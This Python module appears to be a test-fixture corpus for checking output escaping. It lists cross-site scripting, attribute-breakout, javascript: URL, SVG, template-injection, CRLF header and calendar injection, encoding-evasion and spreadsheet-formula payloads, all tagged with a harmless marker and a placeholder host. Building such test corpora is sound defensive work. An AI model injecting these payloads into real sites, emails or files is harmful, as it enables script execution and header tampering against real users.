"""Texts that try to become more than text: in pages, addresses, letters, calendars and headers."""

from __future__ import annotations

from collections.abc import Iterator

MARK = "haxed"
"""Stands in every text, so that whatever comes out of one is recognised; no nonce or code holds it by chance."""

SCRIPTS = (
    "<script>haxed(1)</script>",
    "<ScRiPt>haxed(2)</sCrIpT>",
    "<script src=//haxed.example/3></script>",
    "</script><script>haxed(4)</script>",
    "</title><script>haxed(5)</script>",
    "</textarea><script>haxed(6)</script>",
    "</style><script>haxed(7)</script>",
    "--><script>haxed(8)</script><!--",
    "]]><script>haxed(9)</script>",
    "<scr<script>ipt>haxed(10)</scr</script>ipt>",
    "<script\x0b>haxed(11)</script>",
    "<noscript><p title='</noscript><img src=x onerror=haxed(12)>'>",
)
ELEMENTS = (
    "<img src=x onerror=haxed(13)>",
    "<img src='x' onerror='haxed(14)'/>",
    "<img/src=x/onerror=haxed(15)>",
    "<iframe src=javascript:haxed(16)></iframe>",
    "<iframe srcdoc='<script>haxed(17)</script>'></iframe>",
    "<object data=data:text/html,haxed18></object>",
    "<embed src=//haxed.example/19.swf>",
    "<form action=//haxed.example/20><button>haxed",
    "<input autofocus onfocus=haxed(21)>",
    "<details open ontoggle=haxed(22)>",
    "<video><source onerror=haxed(23)></video>",
    "<body onload=haxed(24)>",
    "<base href=//haxed.example/25/>",
    "<link rel=stylesheet href=//haxed.example/26.css>",
    "<meta http-equiv=refresh content='0;url=//haxed.example/27'>",
    "<style>*{background:url(//haxed.example/28)}</style>",
    "<template><img src=x onerror=haxed(29)></template>",
    "<table background=javascript:haxed(30)>",
    "<a href=javascript:haxed(31)>haxed</a>",
    "<button formaction=javascript:haxed(32)>haxed</button>",
)
ATTRIBUTES = (
    '" onmouseover="haxed(33)',
    "' onmouseover='haxed(34)",
    '" autofocus onfocus=haxed(35) x="',
    "x onclick=haxed(36)",
    '"><img src=x onerror=haxed(37)>',
    "'><img src=x onerror=haxed(38)>",
    '" style="background:url(//haxed.example/39)',
    '" hx-get="//haxed.example/40" hx-trigger="load',
    "` onerror=`haxed(41)",
    "&quot; onfocus=haxed(42) &quot;",
)
ADDRESSES = (
    "javascript:haxed(43)",
    "JaVaScRiPt:haxed(44)",
    "java\tscript:haxed(45)",
    "data:text/html,<script>haxed(46)</script>",
    "vbscript:haxed(47)",
    "[haxed](javascript:haxed(48))",
    '![haxed](x" onerror="haxed(49))',
    "<javascript:haxed(50)>",
    'https://haxed.example/51"onclick="haxed()',
)
DRAWINGS = (
    "<svg onload=haxed(52)>",
    "<svg><script>haxed(53)</script></svg>",
    "<svg><a xlink:href=javascript:haxed(54)><text>haxed</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=haxed(55)>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=haxed(56)>",
)
TEMPLATES = (
    "{{ haxed.57|safe }}",
    "{% load haxed58 %}",
    '{% include "haxed59" %}',
    "${haxed(60)}",
    "#{haxed(61)} <%= haxed(62) %>",
    "%(haxed63)s {haxed64} %s %d",
)
LINES = (
    "haxed65\r\nATTENDEE:mailto:haxed65@haxed.example",
    "haxed66\nEND:VEVENT\nBEGIN:VALARM\nACTION:AUDIO",
    "haxed67\r\nBcc: haxed67@haxed.example",
    "haxed68\r\n\r\n<script>haxed(68)</script>",
    "haxed69\r\nSet-Cookie: session=haxed69",
    "haxed70;CN=haxed\\,haxed:mailto:haxed70@haxed.example",
    "haxed71\u2028BEGIN:VEVENT\u2029\u0085X-HAX:71",
)
LETTERS = (
    "\uff1cscript\uff1ehaxed(72)\uff1c/script\uff1e",
    "\u202e>tpircs/<(37)xah>tpircs<haxed73",
    "<\u200bscript>haxed(74)</script>",
    "&lt;script&gt;haxed(75)&lt;/script&gt;",
    "%3Cscript%3Ehaxed(76)%3C/script%3E",
    "\\u003cscript\\u003ehaxed(77)\\u003c/script\\u003e",
    "+ADw-script+AD4-haxed(78)+ADw-/script+AD4-",
    "\xbcscript\xbehaxed(79)\xbc/script\xbe",
    "\ufeff<script>haxed(80)</script>",
    "<img src=x onerror=&#104;ax(81)>",
    "=haxed82|'/bin/haxed'!A1",
)
PAYLOADS = (
    *SCRIPTS, *ELEMENTS, *ATTRIBUTES, *ADDRESSES, *DRAWINGS, *TEMPLATES, *LINES, *LETTERS
)  # fmt: skip


def packs(longest: int) -> Iterator[str]:
    """All payloads, as many to a text as ``longest`` characters hold."""
    pack = ""
    for payload in (one for one in PAYLOADS if len(one) <= longest):
        if len(pack) + 1 + len(payload) > longest and pack:
            yield pack
            pack = ""
        pack = f"{pack} {payload}".strip(" ")
    yield pack
